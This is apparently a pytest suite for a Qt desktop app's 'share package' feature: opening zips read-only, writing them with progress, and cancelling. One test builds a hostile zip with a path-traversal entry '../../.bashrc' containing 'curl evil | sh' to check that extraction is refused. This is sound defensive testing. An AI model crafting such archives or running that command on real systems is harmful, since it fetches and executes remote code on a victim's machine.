"""Share packages in the window: a package written by the command line opens read-only from
File › Open or a drop; File › Share Package… writes one with progress, and can be stopped."""

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from PySide6.QtCore import QMimeData, QPointF, Qt, QUrl
from PySide6.QtGui import QDropEvent
from PySide6.QtWidgets import QFileDialog

from workshop_app import paths
from workshop_app.cli import main
from workshop_app.export.package import contents
from workshop_app.models.integrity import check_file
from workshop_app.ui.package.dialog import SharePackageDialog
from workshop_app.ui.package.progress import PackageProgress


def menu_action(window, menu_title: str, text: str):
    menu = next(action.menu() for action in window.menuBar().actions() if action.text() == menu_title)
    return next(action for action in menu.actions() if action.text() == text)


@pytest.fixture(scope="module")
def package(_demo_master, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("sent") / "Nepal road map – package.zip"
    assert main(["package", str(_demo_master), str(out), "--lang", "fr"]) == 0
    return out


def test_a_package_from_the_command_line_opens_read_only_with_every_file(window, package, settings, monkeypatch):
    monkeypatch.setattr(QFileDialog, "getOpenFileName", lambda *args, **kwargs: (str(package), ""))
    menu_action(window, "&File", "&Open…").trigger()

    session = window.session
    assert session is not None and session.document.readonly
    banner = window.workshop_view.read_only_banner
    assert banner.isVisible() and f"share package {package.name}" in banner.text.text()
    folder = paths.packages_dir() / package.stem
    assert session.document.path == folder / contents.WORKSHOP
    assert sorted(path.name for path in folder.iterdir()) == sorted(contents.MEMBERS)
    assert check_file(folder / contents.WORKSHOP).ok
    assert PdfReader(folder / contents.ROADMAP_PDF).pages and PdfReader(folder / contents.AGENDA_PDF).pages
    for workbook in (contents.ROADMAP_WORKBOOK, contents.PARTICIPANTS):
        assert load_workbook(folder / workbook, read_only=True).sheetnames
    assert "Népal" in (folder / contents.README).read_text(encoding="utf-8-sig")
    assert settings.recent_files()[0] == package.resolve()  # the package, which opens read-only again

    window.close_workshop()
    data = QMimeData()
    data.setUrls([QUrl.fromLocalFile(str(package))])
    window.dropEvent(QDropEvent(QPointF(10, 10), Qt.CopyAction, data, Qt.LeftButton, Qt.NoModifier))
    assert window.session is not None and window.session.document.path == folder / contents.WORKSHOP
    assert [path.name for path in paths.packages_dir().iterdir()] == [package.stem]  # opened again, not copied


def test_a_copy_of_a_package_s_workshop_is_suggested_under_the_package_s_name(window, package, tmp_path,
                                                                              monkeypatch):
    window.open_file(package)
    suggested = []

    def save_as(parent, title, suggestion, *args, **kwargs):
        suggested.append(Path(suggestion))
        return str(tmp_path / "mine.workshop"), ""

    monkeypatch.setattr(QFileDialog, "getSaveFileName", save_as)
    window.workshop_view.read_only_banner.save_copy_button.click()
    # Not "workshop copy", the name of every package's workshop file, in the folder of the zip.
    assert suggested == [package.parent / f"{package.stem} copy.workshop"]
    assert window.session.document.path == tmp_path / "mine.workshop" and not window.session.document.readonly


def test_a_hostile_package_is_refused_in_one_message_and_nothing_opens(window, package, tmp_path, errors):
    hostile = tmp_path / "sent.zip"
    with zipfile.ZipFile(package) as original, zipfile.ZipFile(hostile, "w") as out:
        for info in original.infolist():
            out.writestr(info.filename, original.read(info))
        out.writestr("../../.bashrc", b"curl evil | sh")
    assert not window.open_file(hostile)
    assert window.session is None
    assert errors == [("Cannot open the share package", errors[0][1])]
    assert "../../.bashrc" in errors[0][1] and "nothing was extracted" in errors[0][1] and "\n" not in errors[0][1]
    assert not paths.packages_dir().exists()


@pytest.fixture
def share_dialog(monkeypatch, qtbot):
    """The Share Package dialog, answered: contacts ticked when `contacts`, the name typed, Enter."""
    from types import SimpleNamespace

    answers = SimpleNamespace(name=None, contacts=False, shown=[])

    def typed_and_entered(dialog):
        answers.shown.append(dialog)
        dialog.show()
        qtbot.waitExposed(dialog)
        dialog.contacts.setChecked(answers.contacts)
        dialog.file_name.clear()
        qtbot.keyClicks(dialog.file_name, str(answers.name))
        qtbot.keyClick(dialog.file_name, Qt.Key_Return)
        return dialog.result()

    monkeypatch.setattr(SharePackageDialog, "exec", typed_and_entered)
    return answers


def test_share_package_writes_the_zip_with_progress(window, demo_path, tmp_path, share_dialog, monkeypatch):
    window.open_file(demo_path)
    steps = []
    monkeypatch.setattr(PackageProgress, "_stepped",
                        lambda self, done, total, what: steps.append((done, total, what)) or self.setValue(done))
    share_dialog.name = tmp_path / "for the country office.zip"
    menu_action(window, "&File", "Share &Package…").trigger()

    dialog = share_dialog.shown[0]
    assert not dialog.contacts.isChecked() and dialog.export_button.text() == "Write Package"
    with zipfile.ZipFile(share_dialog.name) as archive:
        assert sorted(archive.namelist()) == sorted(contents.MEMBERS)
        assert archive.testzip() is None
    assert [done for done, _total, _what in steps] == list(range(steps[0][1] + 1))
    assert "Road-map report (PDF)" in [what for _done, _total, what in steps]
    assert window.statusBar().currentMessage().startswith("Share package written:")
    assert not window.session.document.readonly  # writing a package leaves the workshop as it was


def test_stopping_the_package_leaves_nothing(window, demo_path, tmp_path, share_dialog, monkeypatch):
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "private"))
    (tmp_path / "private").mkdir()
    window.open_file(demo_path)
    started = PackageProgress.exec

    def cancelled_at_once(self):
        self.canceled.emit()  # Cancel, pressed before the first step
        return started(self)

    monkeypatch.setattr(PackageProgress, "exec", cancelled_at_once)
    share_dialog.name = tmp_path / "out" / "stopped.zip"
    share_dialog.name.parent.mkdir()
    menu_action(window, "&File", "Share &Package…").trigger()

    assert list(share_dialog.name.parent.iterdir()) == []
    assert list((tmp_path / "private").iterdir()) == []
    assert window.statusBar().currentMessage() == "Stopped: no package was written"


def test_the_command_line_shows_a_package_read_only(package, tmp_path):
    from PySide6.QtGui import QImage

    png = tmp_path / "package.png"
    assert main(["open", str(package), "--page", "roadmap", "--screenshot", str(png), "--size", "1024x700"]) == 0
    image = QImage(str(png))
    assert (image.width(), image.height()) == (1024, 700)
    assert [path.name for path in paths.packages_dir().iterdir()] == [package.stem]
